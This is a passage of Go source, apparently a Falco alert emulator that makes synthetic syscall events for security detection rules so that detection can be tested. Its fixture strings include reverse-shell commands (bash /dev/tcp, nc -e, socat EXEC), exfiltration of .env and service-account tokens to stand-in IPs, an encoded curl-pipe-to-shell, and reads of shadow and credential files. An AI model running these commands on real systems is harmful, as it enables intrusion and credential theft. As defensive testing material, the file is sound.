		paths2: []string{"/tmp/.h", "/dev/null", "/tmp/.hist.bak"},
		write:  true,
	},
	"Set Setuid or Setgid bit": {
		procs: []proc{
			p("chmod", "/usr/bin/chmod", "chmod u+s /tmp/sh", "bash", "/usr/bin/bash", "bash"),
			p("chmod", "/bin/busybox", "chmod 4755 /tmp/.rootsh", "sh", "/bin/busybox", "sh"),
			p("python3", "/usr/bin/python3.11", "python3 -c import os;os.chmod('/tmp/b',0o6755)", "sh", "/bin/sh", "sh"),
		},
		files: []string{"/tmp/sh", "/tmp/.rootsh", "/tmp/b", "/var/tmp/bash"},
		extra: map[string][]any{"evt.arg.mode": {
			"S_ISUID|S_IRWXU|S_IRGRP|S_IXGRP|S_IROTH|S_IXOTH",
			"S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISGID|S_ISUID",
		}},
	},
	"Launch Remote File Copy Tools in Container": {procs: []proc{
		p("rsync", "/usr/bin/rsync", "rsync -avz /var/lib/data exfil@203.0.113.50:/srv/loot", "bash", "/usr/bin/bash", "bash"),
		p("scp", "/usr/bin/scp", "scp /app/.env root@198.51.100.23:/tmp/", "sh", "/bin/sh", "sh"),
		p("sftp", "/usr/bin/sftp", "sftp -b /tmp/b ftp@203.0.113.50", "bash", "/usr/bin/bash", "bash"),
	}},
	"Network Connection outside Local Subnet": {
		procs: []proc{
			p("node", "/usr/local/bin/node", "node /app/server.js", "containerd-shim", "/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2 -namespace k8s.io -id 2a7b"),
			p("java", "/opt/java/openjdk/bin/java", "java -jar /app/app.jar", "containerd-shim", "/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2 -namespace k8s.io -id 51c0"),
		},
		net: &netProf{l4: "tcp", rports: []int64{443, 80, 5432}, rips: []string{"140.82.112.3", "52.94.236.248", "203.0.113.50"},
			names: []string{"lb-140-82-112-3-iad.github.com", "dynamodb.us-east-1.amazonaws.com", ""}},
	},
	"Mount Launched in Privileged Container": {procs: []proc{
		p("mount", "/usr/bin/mount", "mount /dev/sda1 /mnt", "bash", "/usr/bin/bash", "bash"),
		p("mount", "/bin/busybox", "mount -t proc proc /host/proc", "sh", "/bin/busybox", "sh"),
	}},
	"Launch Ingress Remote File Copy Tools in Container": {procs: curlWget},
	"Read environment variable from /proc files": {
		procs: []proc{
			p("cat", "/usr/bin/cat", "cat /proc/1/environ", "bash", "/usr/bin/bash", "bash"),
			p("python3", "/usr/bin/python3.11", "python3 /tmp/envdump.py", "sh", "/bin/sh", "sh"),
			p("strings", "/usr/bin/strings", "strings /proc/self/environ", "sh", "/bin/sh", "sh"),
		},
		files: []string{"/proc/1/environ", "/proc/self/environ", "/proc/7/environ"},
	},
	"Exfiltrating Artifacts via Kubernetes Control Plane": {
		procs: []proc{
			p("tar", "/usr/bin/tar", "tar cf - /var/run/secrets/kubernetes.io/serviceaccount", "runc", "/usr/bin/runc", "runc exec 4b1f tar cf - /var/run/secrets/kubernetes.io/serviceaccount"),
			p("tar", "/bin/busybox", "tar cf - /app/config", "runc", "/usr/bin/runc", "runc exec 7c2a tar cf - /app/config"),
		},
		files: []string{"/var/run/secrets/kubernetes.io/serviceaccount/token", "/app/config/db.yaml", "/app/.env"},
	},
	"Adding ssh keys to authorized_keys": {
		procs: []proc{
			p("tee", "/usr/bin/tee", "tee -a /root/.ssh/authorized_keys", "bash", "/usr/bin/bash", "bash -c echo ssh-ed25519 AAAAC3Nza... | tee -a /root/.ssh/authorized_keys"),
			p("python3", "/usr/bin/python3.11", "python3 /tmp/addkey.py", "bash", "/usr/bin/bash", "bash"),
		},
		files:       []string{"/root/.ssh/authorized_keys", "/home/ubuntu/.ssh/authorized_keys"},
		write:       true,
		interactive: true,
	},
	"Potential Local Privilege Escalation via Environment Variables Misuse": {
		procs: []proc{
			p("su", "/usr/bin/su", "su --help", "python3", "/usr/bin/python3.11", "python3 /tmp/looney.py", "bash"),
			p("sudo", "/usr/bin/sudo", "sudo -l", "bash", "/usr/bin/bash", "bash"),
		},
		env: []string{
			"GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA PATH=/usr/bin:/bin",
			"GLIBC_TUNABLES=glibc.rtld.nns=1 HOME=/home/ubuntu PATH=/usr/local/bin:/usr/bin:/bin",
		},
		users: nonRootHostUsers,
	},
	"Backdoored library loaded into SSHD (CVE-2024-3094)": {
		procs: []proc{p("sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", "systemd", "/usr/lib/systemd/systemd", "/sbin/init splash")},
		files: []string{"/usr/lib/x86_64-linux-gnu/liblzma.so.5.6.0", "/lib/x86_64-linux-gnu/liblzma.so.5.6.1"},
	},
	"BPF Program Not Profiled": {procs: []proc{
		p("bpftool", "/usr/sbin/bpftool", "bpftool prog load /tmp/x.o /sys/fs/bpf/x", "bash", "/usr/bin/bash", "bash"),
		p("python3", "/usr/bin/python3.11", "python3 /usr/sbin/execsnoop-bpfcc", "sudo", "/usr/bin/sudo", "sudo execsnoop-bpfcc"),
	}},

	// ---- sandbox ----
	"Unexpected inbound connection source": {
		procs: []proc{
			p("nginx", "/usr/sbin/nginx", "nginx: worker process", "nginx", "/usr/sbin/nginx", "nginx: master process nginx -g daemon off;"),
			p("node", "/usr/local/bin/node", "node /app/server.js", "npm", "/usr/local/bin/npm", "npm start"),
		},
		net: &netProf{l4: "tcp", inbound: true, rports: []int64{8080, 443, 22}, rips: []string{"203.0.113.77", "198.51.100.9", "185.220.101.4"}},
	},
	"Read Shell Configuration File": {
		procs: []proc{p("python3", "/usr/bin/python3.11", "python3 /tmp/recon.py", "sh", "/bin/sh", "sh"), p("cat", "/usr/bin/cat", "cat /root/.bashrc", "sh", "/bin/sh", "sh")},
		files: []string{"/root/.bashrc", "/etc/profile", "/home/ubuntu/.profile"},
	},
	"Update Package Repository": {
		procs: []proc{
			p("tee", "/usr/bin/tee", "tee /etc/apt/sources.list.d/mirror.list", "bash", "/usr/bin/bash", "bash"),
			p("python3", "/usr/bin/python3.11", "python3 /tmp/repo.py", "sh", "/bin/sh", "sh"),
			p("mv", "/usr/bin/mv", "mv /tmp/r.repo /etc/yum.repos.d/epel.repo", "bash", "/usr/bin/bash", "bash"),
		},
		files:  []string{"/etc/apt/sources.list.d/mirror.list", "/etc/yum.repos.d/epel.repo", "/etc/apk/repositories"},
		paths2: []string{"/etc/apt/sources.list.d/mirror.list", "/etc/yum.repos.d/epel.repo"},
		write:  true,
	},
	"Write below binary dir":    {procs: writers, files: []string{"/usr/bin/kworkerd", "/bin/ps", "/usr/sbin/sshd", "/usr/local/bin/.x"}, write: true},
	"Write below monitored dir": {procs: writers, files: []string{"/usr/lib/libpam_evil.so", "/boot/grub/grub.cfg", "/lib/x86_64-linux-gnu/libhide.so", "/usr/local/sbin/backup"}, write: true},
	"Write below etc":           {procs: writers, files: []string{"/etc/passwd", "/etc/ld.so.preload", "/etc/hosts", "/etc/sudoers.d/90-nopasswd", "/etc/resolv.conf"}, write: true},
	"Write below root":          {procs: writers, files: []string{"/root/.x", "/root/payload", "/.bootstrap", "/root/.config/x"}, write: true},
	"Write below rpm database": {
		procs: []proc{p("python3", "/usr/bin/python3.11", "python3 /tmp/rpmdb.py", "bash", "/usr/bin/bash", "bash"), p("dd", "/usr/bin/dd", "dd if=/tmp/x of=/var/lib/rpm/Packages", "sh", "/bin/sh", "sh")},
		files: []string{"/var/lib/rpm/Packages", "/var/lib/rpm/rpmdb.sqlite"},
		write: true,
	},
	"Modify binary dirs": {
		procs: []proc{
			p("mv", "/usr/bin/mv", "mv /usr/bin/ps /usr/bin/.ps", "bash", "/usr/bin/bash", "bash"),
			p("rm", "/usr/bin/rm", "rm -f /usr/bin/top", "sh", "/bin/sh", "sh"),
		},
		files:  []string{"/usr/bin/ps", "/usr/bin/top", "/bin/netstat", "/usr/sbin/ss"},
		paths2: []string{"/usr/bin/.ps", "/usr/bin/.top.bak", "/bin/.netstat"},
	},
	"Mkdir binary dirs": {
		procs: []proc{p("mkdir", "/usr/bin/mkdir", "mkdir /usr/bin/.cache", "bash", "/usr/bin/bash", "bash"), p("mkdir", "/bin/busybox", "mkdir -p /bin/.x", "sh", "/bin/busybox", "sh")},
		files: []string{"/usr/bin/.cache", "/bin/.x", "/usr/sbin/.lib"},
	},
	"Interpreted procs inbound network activity": {
		procs: []proc{p("python3", "/usr/bin/python3.11", "python3 -m http.server 8000", "bash", "/usr/bin/bash", "bash"), p("ruby", "/usr/bin/ruby", "ruby /tmp/bind.rb", "sh", "/bin/sh", "sh")},
		net:   &netProf{l4: "tcp", inbound: true, rports: []int64{8000, 4444}, rips: []string{"203.0.113.77", "10.244.2.9"}},
	},
	"Interpreted procs outbound network activity": {
		procs: []proc{p("python3", "/usr/bin/python3.11", "python3 /tmp/beacon.py", "sh", "/bin/sh", "sh"), p("node", "/usr/local/bin/node", "node /tmp/c2.js", "sh", "/bin/sh", "sh"), p("perl", "/usr/bin/perl", "perl -e use Socket;...", "sh", "/bin/sh", "sh")},
		net:   &netProf{l4: "tcp", rports: []int64{443, 8443, 4444}, rips: []string{"203.0.113.50", "198.51.100.23"}},
	},
	"Unexpected K8s NodePort Connection": {
		procs: []proc{p("node", "/usr/local/bin/node", "node /app/server.js", "npm", "/usr/local/bin/npm", "npm start")},
		net:   &netProf{l4: "tcp", inbound: true, rports: []int64{30080, 31337, 32000}, rips: []string{"203.0.113.77", "185.220.101.4"}},
	},
	"Create Hidden Files or Directories": {
		procs:  []proc{p("touch", "/usr/bin/touch", "touch /tmp/.x", "bash", "/usr/bin/bash", "bash"), p("mkdir", "/usr/bin/mkdir", "mkdir /var/tmp/.ICE-unix2", "sh", "/bin/sh", "sh"), p("mv", "/usr/bin/mv", "mv /tmp/m /tmp/.m", "bash", "/usr/bin/bash", "bash")},
		files:  []string{"/tmp/.x", "/var/tmp/.ICE-unix2", "/dev/shm/.m"},
		paths2: []string{"/tmp/.m", "/var/tmp/.x", "/root/.cache/.s"},
		write:  true,
	},
	"Detect outbound connections to common miner pool ports": {
		procs: miners,
		net: &netProf{l4: "tcp", rports: []int64{3333, 4444, 5555, 14444, 45560}, rips: []string{"94.130.12.27", "51.15.65.182", "141.94.96.144"},
			names: []string{"pool.supportxmr.com", "", "gulf.moneroocean.stream"}},
	},
	"Detect crypto miners using the Stratum protocol": {procs: miners},
	"Known Cryptominer Process Executed":              {procs: miners},
	"Kubernetes Client Tool Launched in Container":    {procs: k8sClients},
	"Container Drift Detected (chmod)": {
		procs: []proc{p("chmod", "/usr/bin/chmod", "chmod +x /tmp/payload", "sh", "/bin/sh", "sh"), p("chmod", "/bin/busybox", "chmod 755 /app/bin/x", "sh", "/bin/busybox", "sh")},
		files: []string{"/tmp/payload", "/app/bin/x", "/usr/local/bin/gost"},
		extra: map[string][]any{"evt.arg.mode": {"S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR", "S_IRWXU|S_IRGRP|S_IXGRP|S_IROTH|S_IXOTH"}},
	},
	"Container Drift Detected (open+create)": {
		procs: []proc{p("curl", "/usr/bin/curl", "curl -o /tmp/payload http://203.0.113.50/p", "sh", "/bin/sh", "sh"), p("cp", "/usr/bin/cp", "cp /mnt/x /usr/local/bin/x", "bash", "/usr/bin/bash", "bash")},
		files: []string{"/tmp/payload", "/usr/local/bin/x"},
		write: true,
		extra: map[string][]any{"evt.arg.mode": {"S_IRWXU|S_IRGRP|S_IXGRP|S_IROTH|S_IXOTH", "S_IXUSR|S_IWUSR|S_IRUSR"}},
	},
	"Sudo Potential Privilege Escalation": {procs: []proc{
		p("sudoedit", "/usr/bin/sudo", "sudoedit -s \\ AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "bash", "/usr/bin/bash", "bash"),
		p("sudo", "/usr/bin/sudo", "sudoedit -s /etc/hosts\\", "python3", "/usr/bin/python3.11", "python3 /tmp/baron.py"),
	}, users: nonRootHostUsers},
	"Unprivileged Delegation of Page Faults Handling to a Userspace Process": {procs: []proc{
		p("exploit", "/tmp/exploit", "/tmp/exploit", "bash", "/usr/bin/bash", "bash"),
		p("dirtycred", "/home/ubuntu/dirtycred", "./dirtycred", "bash", "/usr/bin/bash", "-bash"),
	}, users: nonRootHostUsers},
	"Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)": {procs: []proc{
		p("pkexec", "/usr/bin/pkexec", "pkexec", "exploit", "/tmp/pwnkit/exploit", "./exploit", "bash"),
	}, users: nonRootHostUsers},
	"Java Process Class File Download": {
		procs: []proc{p("java", "/opt/java/openjdk/bin/java", "java -jar /app/log4shell-vulnerable.jar", "containerd-shim", "/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2 -namespace k8s.io -id 51c0")},
		net:   &netProf{l4: "tcp", rports: []int64{8000, 1389, 80}, rips: []string{"203.0.113.50", "198.51.100.23"}},
	},
	"Modify Container Entrypoint": {
		procs: []proc{p("exploit", "/tmp/exploit", "/tmp/exploit", "sh", "/bin/sh", "sh")},
		files: []string{"/usr/bin/runc", "/proc/self/exe", "/usr/sbin/runc"},
		write: true,
	},
	"Decoding Payload in Container": {procs: []proc{
		p("base64", "/usr/bin/base64", "base64 -d", "sh", "/bin/sh", "sh -c echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUwL3ggfCBzaA== | base64 -d | sh"),
		p("base64", "/bin/busybox", "base64 -d /tmp/p.b64", "sh", "/bin/busybox", "sh"),
	}},
	"Basic Interactive Reconnaissance": {procs: reconCmds},
	"Netcat/Socat Remote Code Execution on Host": {procs: []proc{
		p("socat", "/usr/bin/socat", "socat TCP:203.0.113.50:4444 EXEC:/bin/bash", "bash", "/usr/bin/bash", "bash", "sshd"),
		p("nc", "/usr/bin/nc.traditional", "nc -e /bin/bash 198.51.100.23 9001", "sh", "/bin/sh", "sh -c nc -e /bin/bash 198.51.100.23 9001", "cron"),
	}},
	"Network Tool Executed During NPM Package Install": {procs: []proc{
		p("curl", "/usr/bin/curl", "curl -s http://203.0.113.50/install.sh", "sh", "/bin/sh", "sh -c node scripts/postinstall.js", "node", "npm", "bash"),
		p("wget", "/usr/bin/wget", "wget -qO- http://198.51.100.23/p", "sh", "/bin/sh", "sh -c node install.js", "node", "npm", "sh"),
	}},
	"Web Server Spawned Shell": {procs: webServers, users: []usr{uWWW, uNginx, uRoot}},
	"Web Server Spawned Suspicious Child Process": {procs: []proc{
		p("curl", "/usr/bin/curl", "curl -s http://203.0.113.50/s", "nginx", "/usr/sbin/nginx", "nginx: worker process", "nginx"),
		p("whoami", "/usr/bin/whoami", "whoami", "apache2", "/usr/sbin/apache2", "/usr/sbin/apache2 -k start", "apache2"),
		p("wget", "/usr/bin/wget", "wget http://198.51.100.23/x", "httpd", "/usr/local/apache2/bin/httpd", "httpd -DFOREGROUND", "httpd"),
	}, users: []usr{uWWW, uNginx}},
	"Reverse Shell from Web Server": {procs: []proc{
		p("bash", "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.50/4444 0>&1", "php-fpm", "/usr/local/sbin/php-fpm", "php-fpm: pool www", "php-fpm"),
		p("sh", "/bin/sh", "sh -c nc 198.51.100.23 9001 -e /bin/sh", "nginx", "/usr/sbin/nginx", "nginx: worker process", "nginx"),
	}, users: []usr{uWWW, uNginx}},
	"Privileged Container Device Access": {
		procs: []proc{p("dd", "/usr/bin/dd", "dd if=/dev/sda of=/tmp/disk.img bs=1M count=10", "bash", "/usr/bin/bash", "bash"), p("cat", "/usr/bin/cat", "cat /dev/nvme0n1", "sh", "/bin/sh", "sh")},
		files: []string{"/dev/sda", "/dev/nvme0n1", "/dev/sda1", "/dev/xvda"},
	},
	"Container Access to Host Sensitive Paths": {
		procs: readers[:2],
		files: []string{"/host/etc/shadow", "/proc/1/root/etc/shadow", "/host/root/.ssh/id_rsa", "/var/run/docker.sock"},
	},
}

// ---- variant building ----

// vb builds one variant's field values.
type vb struct {
	rule    *Rule
	prof    *profile
	host    bool
	rng     *rand.Rand
	base    time.Time
	proc    proc
	chain   []string // aname[1..]: parent, grandparent, ...
	user    usr
	evtType string
	file    string
	path2   string
	netOK   bool
	lip     string
	lport   int64
	rip     string
	rport   int64
	rname   any
	l4      string
	k       int // variant index
}

func pick[T any](rng *rand.Rand, s []T) T { return s[rng.IntN(len(s))] }

// newVB prepares the choices of variant k of a syscall rule.
func newVB(r *Rule, pr *profile, host bool, k int, rng *rand.Rand, base time.Time) *vb {
	b := &vb{rule: r, prof: pr, host: host, rng: rng, base: base, k: k}
	b.proc = pr.procs[k%len(pr.procs)]
	b.chain = append([]string{b.proc.parent}, b.proc.anc...)
	last := b.chain[len(b.chain)-1]
	if host {
		if last != "systemd" {
			if b.proc.tty && last != "sshd" {
				b.chain = append(b.chain, "sshd", "sshd")
			}
			b.chain = append(b.chain, "systemd")
		}
	} else if last != "containerd-shim" && last != "systemd" {
		b.chain = append(b.chain, "containerd-shim", "systemd")
	} else if last == "containerd-shim" {
		b.chain = append(b.chain, "systemd")
	}
	switch {
	case len(pr.users) > 0:
		b.user = pr.users[k%len(pr.users)]
	case host && (pr.interactive || b.proc.tty):
		b.user = pick(rng, hostLoginUsers)
	case host:
		b.user = pick(rng, hostDaemonUsers)
	default:
		b.user = pick(rng, containerUsers)
	}
	// evt.type: the rule's typical syscall most of the time; an accept-side syscall
	// for inbound connections.
	if pr.net != nil && pr.net.inbound {
		var in []string
		for _, t := range r.EvtTypes {
			switch t {
			case "accept", "accept4", "recvfrom", "recvmsg", "listen":
				in = append(in, t)
			}
		}
		if len(in) > 0 {
			b.evtType = in[0]
			if k%4 == 3 {
				b.evtType = in[rng.IntN(len(in))]
			}
		}
	}
	if b.evtType == "" && len(r.EvtTypes) > 0 {
		if k%4 == 3 && len(r.EvtTypes) > 1 {
			b.evtType = r.EvtTypes[1+rng.IntN(len(r.EvtTypes)-1)]
		} else {
			b.evtType = r.EvtTypes[0]
		}
	}
	if len(pr.files) > 0 {
		b.file = pr.files[k%len(pr.files)]
	}
	if len(pr.paths2) > 0 {
		b.path2 = pr.paths2[k%len(pr.paths2)]
	}
	if n := pr.net; n != nil {
		b.netOK = true
		b.l4 = n.l4
		i := k % len(n.rips)
		b.rip = n.rips[i]
		if len(n.names) > 0 && n.names[i%len(n.names)] != "" {
			b.rname = n.names[i%len(n.names)]
		}
		b.rport = n.rports[k%len(n.rports)]
		if host {
			b.lip = pick(rng, []string{"10.0.1.23", "192.168.49.2", "172.31.18.204"})
		} else {
			b.lip = fmt.Sprintf("10.244.%d.%d", 1+rng.IntN(6), 2+rng.IntN(250))
		}
		b.lport = int64(32768 + rng.IntN(28000))
		if n.inbound { // server side: local port is the service port
			b.lport, b.rport = b.rport, int64(32768+rng.IntN(28000))
		}
	}
	return b
}

func isExec(t string) bool { return t == "execve" || t == "execveat" }
func isOpen(t string) bool {
	return t == "open" || t == "openat" || t == "openat2" || t == "creat"
}

var capsDefault = "CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP"
var capsAll = "CAP_CHOWN CAP_DAC_OVERRIDE CAP_DAC_READ_SEARCH CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_LINUX_IMMUTABLE CAP_NET_BIND_SERVICE CAP_NET_BROADCAST CAP_NET_ADMIN CAP_NET_RAW CAP_IPC_LOCK CAP_IPC_OWNER CAP_SYS_MODULE CAP_SYS_RAWIO CAP_SYS_CHROOT CAP_SYS_PTRACE CAP_SYS_PACCT CAP_SYS_ADMIN CAP_SYS_BOOT CAP_SYS_NICE CAP_SYS_RESOURCE CAP_SYS_TIME CAP_SYS_TTY_CONFIG CAP_MKNOD CAP_LEASE CAP_AUDIT_WRITE CAP_AUDIT_CONTROL CAP_SETFCAP CAP_MAC_OVERRIDE CAP_MAC_ADMIN CAP_SYSLOG CAP_WAKE_ALARM CAP_BLOCK_SUSPEND CAP_AUDIT_READ CAP_PERFMON CAP_BPF CAP_CHECKPOINT_RESTORE"

var exePaths = map[string]string{
	"bash": "/usr/bin/bash", "sh": "/usr/bin/dash", "sshd": "/usr/sbin/sshd", "systemd": "/usr/lib/systemd/systemd",
	"containerd-shim": "/usr/bin/containerd-shim-runc-v2", "runc": "/usr/bin/runc", "sudo": "/usr/bin/sudo",
	"node": "/usr/local/bin/node", "npm": "/usr/local/bin/npm", "python3": "/usr/bin/python3.11", "java": "/opt/java/openjdk/bin/java",
	"nginx": "/usr/sbin/nginx", "apache2": "/usr/sbin/apache2", "httpd": "/usr/local/apache2/bin/httpd", "php-fpm": "/usr/local/sbin/php-fpm",
	"cron": "/usr/sbin/cron", "gunicorn": "/usr/local/bin/gunicorn", "tini": "/usr/bin/tini", "kinsing": "/tmp/kinsing",
}

// value resolves one output field of a syscall rule, typed as falcofields declares the field
// (so the emulator's JSON carries the types the receiver and falcolabel expect). ok=false means
// the emulator has no resolver for the key (a test checks that every catalog field resolves).
func (b *vb) value(key string) (v any, ok bool) {
	if cands, has := b.prof.extra[key]; has {
		return typed(key, cands[b.k%len(cands)]), true
	}
	if v, ok := b.ancestor(key); ok {
		return v, true
	}
	resolve, ok := syscallValues[key]
	if !ok {
		return nil, false
	}
	return typed(key, resolve(b)), true
}

// typed gives v the type falcofields declares for key: resolvers may write a number as text.
func typed(key string, v any) any {
	switch x := v.(type) {
	case string:
		switch falcofields.TypeOf(key) {
		case falcofields.Int:
			if n, err := strconv.ParseInt(x, 10, 64); err == nil {
				return n
			}
		case falcofields.Bool:
			if t, err := strconv.ParseBool(x); err == nil {
				return t
			}
		case falcofields.String:
		}
	case int64:
		if falcofields.TypeOf(key) == falcofields.String {
			return strconv.FormatInt(x, 10)
		}
	}
	return v
}

// ancestor resolves proc.aname[n] and proc.aexepath[n] from the process chain.
func (b *vb) ancestor(key string) (any, bool) {
	if !strings.HasPrefix(key, "proc.aname[") && !strings.HasPrefix(key, "proc.aexepath[") {
		return nil, false
	}
	var n int
	fmt.Sscanf(key[strings.IndexByte(key, '[')+1:], "%d", &n)
	if n < 1 || n > len(b.chain) {
		return nil, true
	}
	name := b.chain[n-1]
	if strings.HasPrefix(key, "proc.aname[") {
		return name, true
	}
	if p, ok := exePaths[name]; ok {
		return p, true
	}
	return "/usr/bin/" + name, true
}

// when returns v if cond holds, else no value.
func when(cond bool, v any) any {
	if cond {
		return v
	}
	return nil
}

func choose[T any](cond bool, yes, no T) T {
	if cond {
		return yes
	}
	return no
}

// syscallValues resolve the output fields of syscall rules from a variant's choices (its process,
// user, file, connection and syscall); nil is Falco's "no value".
var syscallValues = map[string]func(b *vb) any{
	// events
	"evt.type": func(b *vb) any { return b.evtType },
	"evt.res": func(b *vb) any {
		return choose(b.evtType == "unshare" && b.k%2 == 1, "EPERM", "SUCCESS")
	},
	"evt.arg.flags":    (*vb).flags,
	"evt.args":         (*vb).args,
	"evt.arg.target":   func(b *vb) any { return b.file },
	"evt.arg.linkpath": func(b *vb) any { return b.path2 },
	"evt.arg.oldpath":  func(b *vb) any { return when(b.renamesOrLinks(), b.file) },
	"evt.arg.newpath":  func(b *vb) any { return when(b.renamesOrLinks(), b.path2) },
	"evt.arg.name":     func(b *vb) any { return when(b.evtType == "unlinkat" || isOpen(b.evtType), b.file) },
	"evt.arg.path": func(b *vb) any {
		return when(b.evtType == "unlink" || b.evtType == "rmdir" || strings.HasPrefix(b.evtType, "mkdir"), b.file)
	},
	"evt.arg.filename": func(b *vb) any { return when(b.evtType == "chmod" || b.evtType == "fchmodat", b.file) },
	"evt.arg.fd":       func(b *vb) any { return when(b.evtType == "fchmod", "3(<f>"+b.file+")") },
	"evt.arg.mode":     func(*vb) any { return "S_IRWXU|S_IRGRP|S_IXGRP|S_IROTH|S_IXOTH" },
	"evt.arg.uid":      func(*vb) any { return "0" },
	"evt.arg.cmd":      func(*vb) any { return "BPF_PROG_LOAD" },

	// file descriptors and connections
	"fd.name": func(b *vb) any {
		switch {
		case b.socket() && b.prof.net.inbound:
			return fmt.Sprintf("%s:%d->%s:%d", b.rip, b.rport, b.lip, b.lport)
		case b.socket():
			return fmt.Sprintf("%s:%d->%s:%d", b.lip, b.lport, b.rip, b.rport)
		}
		return when(b.file != "" && !isExec(b.evtType), b.file)
	},
	"fd.nameraw": func(b *vb) any {
		if len(b.prof.raw) > 0 {
			return b.prof.raw[b.k%len(b.prof.raw)]
		}
		return b.file
	},
	"fd.lport":    func(b *vb) any { return when(b.netOK, b.lport) },
	"fd.rport":    func(b *vb) any { return when(b.netOK, b.rport) },
	"fd.sport":    func(b *vb) any { return when(b.netOK, b.server(b.lport, b.rport)) },
	"fd.sip":      func(b *vb) any { return when(b.netOK, b.server(b.lip, b.rip)) },
	"fd.rip":      func(b *vb) any { return when(b.netOK, b.rip) },
	"fd.rip.name": func(b *vb) any { return when(b.netOK, b.rname) },
	"fd.sip.name": func(b *vb) any { return when(b.netOK && !b.prof.net.inbound, b.rname) },
	"fd.lip.name": func(*vb) any { return nil },
	"fd.cip.name": func(*vb) any { return nil },
	"fd.type": func(b *vb) any {
		if b.socket() {
			return "ipv4"
		}
		return when(b.file != "" && !isExec(b.evtType), "file")
	},
	"fd.l4proto": func(b *vb) any { return when(b.socket(), b.l4) },

	// processes
	"proc.name":    func(b *vb) any { return b.proc.name },
	"proc.exepath": func(b *vb) any { return b.proc.exe },
	"proc.exe": func(b *vb) any {
		if strings.HasPrefix(b.proc.exe, "/tmp/") || strings.HasPrefix(b.proc.exe, "/dev/shm/") {
			return b.proc.exe
		}
		return strings.Fields(b.proc.cmd + " x")[0]
	},
	"proc.cmdline": func(b *vb) any { return b.proc.cmd },
	"proc.args": func(b *vb) any {
		_, args, _ := strings.Cut(b.proc.cmd, " ")
		return args
	},
	"proc.pname":    func(b *vb) any { return b.proc.parent },
	"proc.pexepath": func(b *vb) any { return b.proc.pexe },
	"proc.pexe":     func(b *vb) any { return b.proc.pexe },
	"proc.pcmdline": func(b *vb) any { return b.proc.pcmd },
	"proc.sname":    (*vb).sessionLeader,
	"proc.cwd":      (*vb).cwd,
	"proc.tty": func(b *vb) any {
		if b.proc.tty || (b.host && b.prof.interactive) {
			return int64(34816 + b.rng.IntN(3))
		}
		return int64(0)
	},
	"proc.env": func(b *vb) any {
		if len(b.prof.env) > 0 {
			return b.prof.env[b.k%len(b.prof.env)]
		}
		return "HOME=/root PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
	},
	"proc.exe_ino.ctime":                     func(b *vb) any { return b.base.Add(-time.Duration(30+b.k*7) * time.Second).UnixNano() },
	"proc.exe_ino.mtime":                     func(b *vb) any { return b.base.Add(-time.Duration(30+b.k*7) * time.Second).UnixNano() },
	"proc.exe_ino.ctime_duration_proc_start": func(b *vb) any { return int64(1_500_000_000 + b.rng.Int64N(4_000_000_000)) },

	// users
	"user.name":      func(b *vb) any { return b.user.name },
	"user.uid":       func(b *vb) any { return b.user.uid },
	"user.loginuid":  func(b *vb) any { return b.user.loginuid },
	"user.loginname": func(b *vb) any { return b.user.loginname },
	"group.gid":      func(b *vb) any { return b.user.gid },
	"group.name":     func(b *vb) any { return b.user.group },

	// threads and containers
	"thread.cap_effective": func(b *vb) any {
		return choose(b.k%2 == 0, capsAll, capsDefault+" CAP_SYS_ADMIN")
	},
	"thread.cap_permitted": func(*vb) any { return capsAll },
	"container.start_ts": func(b *vb) any {
		return when(!b.host, b.base.Add(-time.Duration(5+b.k*13)*time.Minute).UnixNano())
	},
	"container.mounts": func(b *vb) any {
		if b.host {
			return nil
		}
		return pick(b.rng, []any{
			"/var/run/docker.sock:/var/run/docker.sock::true:rprivate,/var/lib/kubelet/pods/6f1c/volumes/kubernetes.io~projected/kube-api-access-8xk2q:/var/run/secrets/kubernetes.io/serviceaccount:ro:false:rprivate",
			"/:/host::true:rprivate,/var/lib/kubelet/pods/9a0e/etc-hosts:/etc/hosts::true:rprivate",
			"/proc:/host/proc:ro:false:rprivate,/etc:/host/etc:ro:false:rprivate",
		})
	},
}

// socket reports whether the event is on the rule's connection (not the exec that preceded it).
func (b *vb) socket() bool { return b.netOK && !isExec(b.evtType) }

func (b *vb) renamesOrLinks() bool {
	return strings.HasPrefix(b.evtType, "rename") || strings.HasPrefix(b.evtType, "link")
}

// server picks the server side of the connection: local for inbound ones, remote otherwise.
func (b *vb) server(local, remote any) any {
	if b.prof.net.inbound {
		return local
	}
	return remote
}

func (b *vb) flags() any {
	switch {
	case isExec(b.evtType) && !b.host:
		return pick(b.rng, []any{"EXE_WRITABLE|EXE_LOWER_LAYER", "EXE_LOWER_LAYER", "EXE_WRITABLE|EXE_LOWER_LAYER"})
	case isExec(b.evtType) && b.user.uid == 0:
		return "EXE_WRITABLE"
	case isExec(b.evtType):
		return "0"
	case isOpen(b.evtType) && b.prof.write:
		return pick(b.rng, []any{"O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC", "O_WRONLY|O_APPEND|O_CREAT", "O_RDWR|O_CREAT|O_CLOEXEC", "O_WRONLY|O_TRUNC"})
	case isOpen(b.evtType):
		return pick(b.rng, []any{"O_RDONLY", "O_RDONLY|O_CLOEXEC", "O_RDONLY|O_NONBLOCK|O_CLOEXEC"})
	}
	return nil
}

func (b *vb) args() any {
	switch {
	case b.evtType == "socket":
